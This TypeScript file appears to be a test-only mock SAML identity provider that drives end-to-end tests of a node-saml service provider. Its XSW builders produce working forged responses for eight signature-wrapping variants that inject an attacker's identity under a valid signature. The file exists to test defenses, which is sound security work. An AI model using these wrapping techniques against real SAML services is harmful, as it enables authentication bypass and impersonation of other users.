/**
 * A test-only SAML 2.0 identity provider: enough of an IdP to drive end-to-end and attack tests
 * against our service provider (which uses @node-saml/node-saml). It never listens on a socket:
 * tests read the SP's HTTP-Redirect AuthnRequest URL with `readAuthnRequest`, then POST the
 * base64 `SAMLResponse` that `response(...)` (or one of the attack builders) returns to the ACS.
 *
 * Signing uses xml-crypto (RSA-SHA256, exclusive c14n, enveloped-signature transform, reference
 * `#ID`, `<ds:Signature>` right after the element's `<saml:Issuer>` as the schema requires, and a
 * KeyInfo carrying the IdP certificate).
 */
import { randomBytes } from 'node:crypto';
import { inflateRawSync } from 'node:zlib';
import { DOMParser, type Document, type Element, type Node, XMLSerializer } from '@xmldom/xmldom';
import { generate } from 'selfsigned';
import { SignedXml } from 'xml-crypto';

export const SAML_NS = {
  protocol: 'urn:oasis:names:tc:SAML:2.0:protocol',
  assertion: 'urn:oasis:names:tc:SAML:2.0:assertion',
  metadata: 'urn:oasis:names:tc:SAML:2.0:metadata',
  dsig: 'http://www.w3.org/2000/09/xmldsig#',
} as const;

export const NAMEID_FORMAT_EMAIL = 'urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress';
export const STATUS_SUCCESS = 'urn:oasis:names:tc:SAML:2.0:status:Success';
/** The WS-Federation claim URI many IdPs (Entra ID, AD FS, Okta templates) use for the email address. */
export const EMAIL_CLAIM_URI = 'http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress';

const RSA_SHA256 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256';
const SHA256 = 'http://www.w3.org/2001/04/xmlenc#sha256';
const EXCLUSIVE_C14N = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const ENVELOPED_SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature';

export interface SamlAuthnRequest {
  /** The AuthnRequest's ID: what the response's InResponseTo must carry. */
  id: string;
  /** The SP entity ID (AuthnRequest `<saml:Issuer>`). */
  issuer: string;
  acsUrl: string | undefined;
  relayState: string | undefined;
  destination: string | undefined;
  /** The inflated AuthnRequest XML. */
  xml: string;
}

export interface SamlResponseOptions {
  /** The SP's AssertionConsumerService URL: Response Destination and SubjectConfirmationData Recipient. */
  acsUrl: string;
  /** The SP entity ID, written as the assertion's `<saml:Audience>`. */
  audience: string;
  /** The AuthnRequest ID; omitted → an unsolicited (IdP-initiated) response. */
  inResponseTo?: string;
  nameId: string;
  /** NameID Format; default emailAddress. */
  nameIdFormat?: string;
  /** Sent as both `email` and the emailaddress claim URI; defaults to `nameId`; `null` sends neither. */
  email?: string | null;
  /** Sent as the `name` attribute. */
  name?: string;
  /** Further attributes, `Name → value`. */
  attributes?: Record<string, string>;
  /** What to sign; default 'assertion'. */
  sign?: 'assertion' | 'response' | 'both' | 'none';
  /** Conditions NotBefore; default issueInstant. */
  notBefore?: Date;
  /** Conditions and SubjectConfirmationData NotOnOrAfter; default now + 5 minutes. */
  notOnOrAfter?: Date;
  /** Response/Assertion IssueInstant and AuthnInstant; default now. */
  issueInstant?: Date;
  /** Assertion ID; default `_` + random hex. */
  assertionId?: string;
  /** Response ID; default `_` + random hex. */
  responseId?: string;
  /** AuthnStatement SessionNotOnOrAfter; omitted by default. */
  sessionNotOnOrAfter?: Date;
  /** AuthnStatement SessionIndex; default `_` + random hex. */
  sessionIndex?: string;
  /** Issuer of the Response and the Assertion; default the IdP's entityId. */
  issuer?: string;
  /** SubjectConfirmationData Recipient; default acsUrl. */
  recipient?: string;
  /** Response Destination; default acsUrl. */
  destination?: string;
  /** Top-level status; anything but Success sends no assertion (as real IdPs do). */
  statusCode?: string;
  statusMessage?: string;
}

/**
 * XML Signature Wrapping variants, numbered as in Somorovsky et al., "On Breaking SAML: Be
 * Whoever You Want to Be" (USENIX Security 2012) and as SAML Raider implements them.
 * R = Response, A = the IdP-signed assertion (victim), S = A's signature, E = the attacker's
 * unsigned assertion, A' = A with S removed (its digest is unchanged: enveloped transform).
 *
 *  1  (response signature) R' (new ID, holding E) is the root; an unsigned clone of the signed R
 *     is appended inside R's `<ds:Signature>`.
 *  2  (response signature) as 1, but the clone of R sits just before `<ds:Signature>` (detached).
 *  3  E (new ID) is inserted before A, which stays intact: two assertions, evil one first.
 *  4  E (new ID) is the Response's assertion and A (intact) is moved inside E.
 *  5  S moves into E (new ID), which takes A's place; A' is appended at the end of the Response.
 *  6  S moves into E (new ID), which takes A's place; A' is appended inside S.
 *  7  a `<samlp:Extensions>` block holds E (same ID as A, as SAML Raider does); A stays intact.
 *  8  S moves into E (same ID as A), which takes A's place; A' sits inside a `<ds:Object>` in S.
 *
 * 1–2 sign the response only (attack a response-signature SP); 3–8 sign the assertion only.
 */
export type XswVariant = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;

export const XSW_VARIANTS: readonly XswVariant[] = [1, 2, 3, 4, 5, 6, 7, 8];

export interface WrappedResponseOptions extends Omit<SamlResponseOptions, 'sign'> {
  /** The identity the attacker wants to become (email and, unless attackerNameId, NameID). */
  attackerEmail: string;
  attackerNameId?: string;
  attackerName?: string;
  /** Default 3. */
  variant?: XswVariant;
  /** ID of the evil assertion; default per variant (fresh for 1–6, the signed assertion's ID for 7–8). */
  evilAssertionId?: string;
}

export interface SamlIdp {
  entityId: string;
  /** A made-up SSO URL: only the SP's configured entry point, nothing listens there. */
  ssoUrl: string;
  certificatePem: string;
  /** The certificate body without PEM header lines (as metadata and node-saml `idpCert` accept). */
  certificateBase64: string;
  privateKeyPem: string;
  /** IdP metadata (EntityDescriptor with an IDPSSODescriptor). */
  metadataXml: string;
  readAuthnRequest(redirectUrl: string): SamlAuthnRequest;
  /** The base64 `SAMLResponse` to POST to the ACS. */
  response(options: SamlResponseOptions): string;
  /** An XSW attack response: `nameId`/`email` are the signed (victim) identity, `attacker*` the injected one. */
  wrappedResponse(options: WrappedResponseOptions): string;
}

export async function createSamlIdp(options: { entityId?: string } = {}): Promise<SamlIdp> {
  const entityId = options.entityId ?? 'https://idp.example.test/metadata';
  const ssoUrl = 'https://idp.example.test/sso';
  const pems = await generate([{ name: 'commonName', value: 'idp.example.test' }], {
    keySize: 2048,
    algorithm: 'sha256',
  });
  const certificatePem = pems.cert;
  const privateKeyPem = pems.private;
  const certificateBase64 = pemBody(certificatePem);
  const signer = { privateKeyPem, certificatePem };

  const buildSigned = (o: SamlResponseOptions): string => {
    const sign = o.sign ?? 'assertion';
    let xml = buildResponseXml(entityId, o);
    const hasAssertion = (o.statusCode ?? STATUS_SUCCESS) === STATUS_SUCCESS;
    // Assertion first: a response signature then also covers the assertion's signature.
    if ((sign === 'assertion' || sign === 'both') && hasAssertion)
      xml = signElement(xml, 'Assertion', signer);
    if (sign === 'response' || sign === 'both') xml = signElement(xml, 'Response', signer);
    return xml;
  };

  return {
    entityId,
    ssoUrl,
    certificatePem,
    certificateBase64,
    privateKeyPem,
    metadataXml: buildMetadataXml(entityId, ssoUrl, certificateBase64),
    readAuthnRequest,
    response: (o) => toBase64(buildSigned(o)),
    wrappedResponse(o) {
      const variant = o.variant ?? 3;
      const { attackerEmail, attackerNameId, attackerName, evilAssertionId, variant: _v, ...victim } = o;
      const signedXml = buildSigned({ ...victim, sign: variant <= 2 ? 'response' : 'assertion' });
      const doc = parseXml(signedXml);
      const response = doc.documentElement as Element;
      const original = childElement(response, SAML_NS.assertion, 'Assertion');
      const originalId = original.getAttribute('ID') ?? '';
      const evilXml = buildAssertionXml(entityId, {
        ...victim,
        nameId: attackerNameId ?? attackerEmail,
        email: attackerEmail,
        name: attackerName ?? victim.name,
        assertionId: evilAssertionId ?? (variant >= 7 ? originalId : randomId()),
      });
      const evil = doc.importNode(parseXml(evilXml).documentElement as Element, true) as Element;
      applyXsw(variant, doc, response, original, evil);
      return toBase64(new XMLSerializer().serializeToString(doc));
    },
  };
}

/** Decodes a base64 `SAMLResponse`, lets `fn` edit its XML, and re-encodes it (signatures untouched). */
export function tamper(responseBase64: string, fn: (xml: string) => string): string {
  return toBase64(fn(decodeSamlResponse(responseBase64)));
}

export function decodeSamlResponse(responseBase64: string): string {
  return Buffer.from(responseBase64, 'base64').toString('utf8');
}

/** Reads an HTTP-Redirect binding AuthnRequest URL (`SAMLRequest` = base64 of raw DEFLATE). */
export function readAuthnRequest(redirectUrl: string): SamlAuthnRequest {
  const url = new URL(redirectUrl);
  const encoded = url.searchParams.get('SAMLRequest');
  if (!encoded) throw new Error(`no SAMLRequest parameter in ${redirectUrl}`);
  const xml = inflateRawSync(Buffer.from(encoded, 'base64')).toString('utf8');
  const root = parseXml(xml).documentElement;
  if (root?.localName !== 'AuthnRequest' || root.namespaceURI !== SAML_NS.protocol) {
    throw new Error(`SAMLRequest is not a samlp:AuthnRequest: ${xml}`);
  }
  const id = root.getAttribute('ID');
  if (!id) throw new Error('AuthnRequest has no ID');
  const issuer = childElement(root, SAML_NS.assertion, 'Issuer').textContent?.trim() ?? '';
  return {
    id,
    issuer,
    acsUrl: root.getAttribute('AssertionConsumerServiceURL') ?? undefined,
    relayState: url.searchParams.get('RelayState') ?? undefined,
    destination: root.getAttribute('Destination') ?? undefined,
    xml,
  };
}

// ---------------------------------------------------------------------------------------------

function applyXsw(variant: XswVariant, doc: Document, response: Element, original: Element, evil: Element) {
  const signatureOf = (element: Element) => childElement(element, SAML_NS.dsig, 'Signature');
  const insertAfterIssuer = (element: Element, child: Node) => {
    const issuer = childElement(element, SAML_NS.assertion, 'Issuer');
    element.insertBefore(child, issuer.nextSibling);
  };
  switch (variant) {
    case 1:
    case 2: {
      const signature = signatureOf(response);
      const clone = response.cloneNode(true) as Element;
      clone.removeChild(signatureOf(clone));
      response.replaceChild(evil, original);
      response.setAttribute('ID', randomId());
      if (variant === 1) signature.appendChild(clone);
      else response.insertBefore(clone, signature);
      return;
    }
    case 3:
      response.insertBefore(evil, original);
      return;
    case 4:
      response.replaceChild(evil, original);
      evil.appendChild(original);
      return;
    case 5:
    case 6:
    case 8: {
      const signature = signatureOf(original);
      original.removeChild(signature);
      insertAfterIssuer(evil, signature);
      response.replaceChild(evil, original);
      if (variant === 5) response.appendChild(original);
      else if (variant === 6) signature.appendChild(original);
      else {
        const object = doc.createElementNS(SAML_NS.dsig, 'ds:Object');
        object.appendChild(original);
        signature.appendChild(object);
      }
      return;
    }
    case 7: {
      const extensions = doc.createElementNS(SAML_NS.protocol, 'samlp:Extensions');
      extensions.appendChild(evil);
      // Schema order: Issuer, Signature?, Extensions?, Status, Assertion.
      response.insertBefore(extensions, childElement(response, SAML_NS.protocol, 'Status'));
      return;
    }
  }
}

function signElement(
  xml: string,
  target: 'Assertion' | 'Response',
  signer: { privateKeyPem: string; certificatePem: string },
): string {
  const path =
    target === 'Response'
      ? "/*[local-name(.)='Response']"
      : "/*[local-name(.)='Response']/*[local-name(.)='Assertion']";
  const sig = new SignedXml({
    privateKey: signer.privateKeyPem,
    publicCert: signer.certificatePem,
    signatureAlgorithm: RSA_SHA256,
    canonicalizationAlgorithm: EXCLUSIVE_C14N,
  });
  sig.addReference({
    xpath: path,
    transforms: [ENVELOPED_SIGNATURE, EXCLUSIVE_C14N],
    digestAlgorithm: SHA256,
  });
  sig.computeSignature(xml, {
    prefix: 'ds',
    location: { reference: `${path}/*[local-name(.)='Issuer']`, action: 'after' },
  });
  return sig.getSignedXml();
}

function buildResponseXml(idpEntityId: string, o: SamlResponseOptions): string {
  const issueInstant = o.issueInstant ?? new Date();
  const statusCode = o.statusCode ?? STATUS_SUCCESS;
  const inResponseTo = o.inResponseTo === undefined ? '' : ` InResponseTo="${esc(o.inResponseTo)}"`;
  const statusMessage =
    o.statusMessage === undefined ? '' : `<samlp:StatusMessage>${esc(o.statusMessage)}</samlp:StatusMessage>`;
  const assertion =
    statusCode === STATUS_SUCCESS ? buildAssertionXml(idpEntityId, { ...o, issueInstant }) : '';
  return (
    `<samlp:Response xmlns:samlp="${SAML_NS.protocol}" xmlns:saml="${SAML_NS.assertion}"` +
    ` ID="${esc(o.responseId ?? randomId())}" Version="2.0" IssueInstant="${iso(issueInstant)}"` +
    ` Destination="${esc(o.destination ?? o.acsUrl)}"${inResponseTo}>` +
    `<saml:Issuer>${esc(o.issuer ?? idpEntityId)}</saml:Issuer>` +
    `<samlp:Status><samlp:StatusCode Value="${esc(statusCode)}"/>${statusMessage}</samlp:Status>` +
    assertion +
    '</samlp:Response>'
  );
}

function buildAssertionXml(idpEntityId: string, o: SamlResponseOptions): string {
  const issueInstant = o.issueInstant ?? new Date();
  const notBefore = o.notBefore ?? issueInstant;
  const notOnOrAfter = o.notOnOrAfter ?? new Date(Date.now() + 5 * 60_000);
  const inResponseTo = o.inResponseTo === undefined ? '' : ` InResponseTo="${esc(o.inResponseTo)}"`;
  const sessionNotOnOrAfter =
    o.sessionNotOnOrAfter === undefined ? '' : ` SessionNotOnOrAfter="${iso(o.sessionNotOnOrAfter)}"`;

  const attributes: [string, string][] = [];
  const email = o.email === undefined ? o.nameId : o.email;
  if (email !== null) attributes.push(['email', email], [EMAIL_CLAIM_URI, email]);
  if (o.name !== undefined) attributes.push(['name', o.name]);
  for (const [name, value] of Object.entries(o.attributes ?? {})) attributes.push([name, value]);
  const attributeStatement =
    attributes.length === 0
      ? ''
      : `<saml:AttributeStatement>${attributes
          .map(
            ([name, value]) =>
              `<saml:Attribute Name="${esc(name)}" NameFormat="${
                name.includes(':')
                  ? 'urn:oasis:names:tc:SAML:2.0:attrname-format:uri'
                  : 'urn:oasis:names:tc:SAML:2.0:attrname-format:basic'
              }"><saml:AttributeValue xsi:type="xs:string">${esc(value)}</saml:AttributeValue></saml:Attribute>`,
          )
          .join('')}</saml:AttributeStatement>`;

  return (
    `<saml:Assertion xmlns:saml="${SAML_NS.assertion}" xmlns:xs="http://www.w3.org/2001/XMLSchema"` +
    ` xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"` +
    ` ID="${esc(o.assertionId ?? randomId())}" Version="2.0" IssueInstant="${iso(issueInstant)}">` +
    `<saml:Issuer>${esc(o.issuer ?? idpEntityId)}</saml:Issuer>` +
    '<saml:Subject>' +
    `<saml:NameID Format="${esc(o.nameIdFormat ?? NAMEID_FORMAT_EMAIL)}">${esc(o.nameId)}</saml:NameID>` +
    '<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">' +
    `<saml:SubjectConfirmationData${inResponseTo} NotOnOrAfter="${iso(notOnOrAfter)}"` +
    ` Recipient="${esc(o.recipient ?? o.acsUrl)}"/>` +
    '</saml:SubjectConfirmation>' +
    '</saml:Subject>' +
    `<saml:Conditions NotBefore="${iso(notBefore)}" NotOnOrAfter="${iso(notOnOrAfter)}">` +
    `<saml:AudienceRestriction><saml:Audience>${esc(o.audience)}</saml:Audience></saml:AudienceRestriction>` +
    '</saml:Conditions>' +
    `<saml:AuthnStatement AuthnInstant="${iso(issueInstant)}" SessionIndex="${esc(o.sessionIndex ?? randomId())}"${sessionNotOnOrAfter}>` +
    '<saml:AuthnContext><saml:AuthnContextClassRef>' +
    'urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport' +
    '</saml:AuthnContextClassRef></saml:AuthnContext>' +
    '</saml:AuthnStatement>' +
    attributeStatement +
    '</saml:Assertion>'
  );
}

function buildMetadataXml(entityId: string, ssoUrl: string, certificateBase64: string): string {
  return (
    `<md:EntityDescriptor xmlns:md="${SAML_NS.metadata}" xmlns:ds="${SAML_NS.dsig}" entityID="${esc(entityId)}">` +
    `<md:IDPSSODescriptor WantAuthnRequestsSigned="false" protocolSupportEnumeration="${SAML_NS.protocol}">` +
    '<md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data>' +
    `<ds:X509Certificate>${certificateBase64}</ds:X509Certificate>` +
    '</ds:X509Data></ds:KeyInfo></md:KeyDescriptor>' +
    `<md:NameIDFormat>${NAMEID_FORMAT_EMAIL}</md:NameIDFormat>` +
    '<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect"' +
    ` Location="${esc(ssoUrl)}"/>` +
    '</md:IDPSSODescriptor></md:EntityDescriptor>'
  );
}

function childElement(parent: Element, namespace: string, localName: string): Element {
  for (let node = parent.firstChild; node; node = node.nextSibling) {
    const element = node as Element;
    if (node.nodeType === 1 && element.localName === localName && element.namespaceURI === namespace) {
      return element;
    }
  }
  throw new Error(`<${parent.nodeName}> has no {${namespace}}${localName} child`);
}

function parseXml(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml');
}

function pemBody(pem: string): string {
  return pem
    .replace(/-----(BEGIN|END) [A-Z ]+-----/g, '')
    .replace(/\s+/g, '')
    .trim();
}

function randomId(): string {
  return `_${randomBytes(20).toString('hex')}`;
}

function iso(date: Date): string {
  return date.toISOString();
}

function toBase64(xml: string): string {
  return Buffer.from(xml, 'utf8').toString('base64');
}

function esc(value: string): string {
  return value
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&apos;');
}
